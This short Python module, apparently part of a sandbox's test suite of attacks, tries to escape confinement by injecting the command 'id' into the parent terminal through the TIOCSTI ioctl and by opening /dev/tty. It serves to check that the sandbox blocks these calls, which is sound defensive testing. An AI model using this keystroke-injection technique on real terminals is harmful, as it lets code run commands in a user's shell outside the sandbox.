"""Types a command into the terminal from which the platform was started."""

from __future__ import annotations

import fcntl
import os
import termios

from sandbox.attacks.tools import attempt


def attack() -> None:
    for descriptor in range(4):
        for character in b"id\n":
            attempt("TIOCSTI", fcntl.ioctl, descriptor, termios.TIOCSTI, bytes([character]))
    attempt("the terminal", os.open, "/dev/tty", os.O_RDWR)
